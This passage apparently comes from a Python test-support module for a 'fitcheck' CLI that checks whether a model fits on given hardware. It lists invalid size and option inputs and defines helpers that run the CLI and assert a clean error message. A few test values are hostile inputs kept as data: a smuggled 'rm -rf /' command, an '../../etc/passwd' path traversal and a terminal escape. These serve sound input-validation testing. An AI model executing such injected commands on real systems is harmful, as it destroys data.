    ("--gpu", "1" + "0" * 400, "has no unit"), ("--gpu", "1" + "0" * 400 + "B", "larger than any machine"), ("--ram", "9" * 400 + "PiB", "larger than any machine"),
]

BAD_OPTIONS = [
    (["--hardware", "rtx-9999"], "no hardware profile named 'rtx-9999'"), (["--hardware", "../../etc/passwd"], "no hardware profile"),
    (["--hardware", "rtx-4090; rm -rf /"], "no hardware profile"), (["--hardware", ""], "--hardware is empty"),
    (["--hardware", "\x1b[2J"], "no hardware profile"), (["--context", "0"], "--context"), (["--context", "-1"], "--context"),
    (["--context", "abc"], "--context"), (["--context", "1e99"], "--context"), (["--batch", "0"], "--batch"),
    (["--timeout", "nan"], "--timeout nan is not a number"), (["--timeout", "0"], "--timeout"), (["--timeout", "-5"], "--timeout"),
    (["--timeout", "inf"], "--timeout"), (["--margin", "nan"], "--margin nan is not a number"), (["--margin", "2"], "--margin"),
    (["--dtype", "float8"], "--dtype"), (["--quantization", "int3"], "--quantization"), (["--prefer", "cheap"], "--prefer"),
    (["--no-such-option"], "No such option"),
]


# --------------------------------------------------------------------------------------------
# Checking one clear line
# --------------------------------------------------------------------------------------------


def check_one_line(exit_code: int, stderr: str, *needles: str, code: int = 2) -> str:
    """Assert an error exit: ``code``, a single "fitcheck: error:" line (plus at most a hint
    line), no traceback, every needle in the error line. Returns the error line."""
    lines = stderr.strip().splitlines()
    assert exit_code == code, f"exit {exit_code}, stderr: {stderr[-2000:]}"
    assert "Traceback" not in stderr, stderr[-3000:]
    assert 1 <= len(lines) <= 2, stderr[-2000:]
    assert lines[0].startswith("fitcheck: error: "), lines[0]
    assert len(lines) == 1 or lines[1].startswith("fitcheck: hint: "), lines
    for needle in needles:
        assert needle in lines[0], f"{needle!r} not in {lines[0]!r}"
    assert lines[0].isprintable(), repr(lines[0])
    return lines[0]


def short_repo_id(nodeid: str) -> str:
    """A valid repo id unique to ``nodeid`` (any string): for repos a test makes several of."""
    return f"evil/m-{hashlib.sha1(nodeid.encode()).hexdigest()[:16]}"


FITCHECK = [sys.executable, "-m", "planner.cli.main"]


@dataclass(frozen=True)
class Run:
    code: int
    stdout: str
    stderr: str
    seconds: float


def run_cli(*args: str, env: dict[str, str] | None = None, timeout: float = 60) -> Run:
    """``fitcheck ARGS`` in a child process (the environment is this one's, plus ``env``)."""
    started = time.monotonic()
    p = subprocess.run([*FITCHECK, *args], capture_output=True, text=True, env={**os.environ, **(env or {})}, timeout=timeout)
    return Run(p.returncode, p.stdout, p.stderr, time.monotonic() - started)


def run_inprocess(capsys: Any, *args: str) -> Run:
    """``fitcheck ARGS`` through :func:`planner.cli.main.main` in this process (fast; same code path)."""
    from planner.cli.main import main

    capsys.readouterr()
    started = time.monotonic()
    try:
        main(list(args))
        code = 0
    except SystemExit as e:
        code = e.code if isinstance(e.code, int) else 2
    out = capsys.readouterr()
    return Run(code, out.out, out.err, time.monotonic() - started)


__all__ = ["BAD_OPTIONS", "BAD_PATHS", "BAD_REPO_IDS", "BAD_REVISIONS", "BAD_SIZES", "CONFIG", "CONFIGS", "CONFIGS_NOT_ON_HUB",
           "HEADERS", "INDEXES", "MISSING", "HeaderCase", "Run", "check_one_line", "run_cli", "run_inprocess", "short_repo_id", "st"]
